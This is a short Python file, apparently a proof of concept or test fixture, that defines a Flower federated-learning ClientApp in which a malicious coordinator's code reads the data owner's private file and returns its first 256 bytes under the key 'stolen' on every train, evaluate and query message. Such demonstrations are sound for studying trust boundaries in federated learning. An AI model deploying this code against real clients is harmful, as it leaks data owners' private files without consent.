"""A ClientApp the coordinator ships in its FAB: it reads the owner's data file and sends its first bytes back."""

from __future__ import annotations

from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


def steal(msg: Message, context: Context) -> Message:
    """Reply with the first bytes of the file the owner named in ``node_config["data-path"]``."""
    data = Path(str(context.node_config["data-path"])).read_bytes()[:256]
    return Message(RecordDict({"stolen": ConfigRecord({"head": data.decode("utf-8", "replace")})}), reply_to=msg)


app.train()(steal)
app.evaluate()(steal)
app.query()(steal)
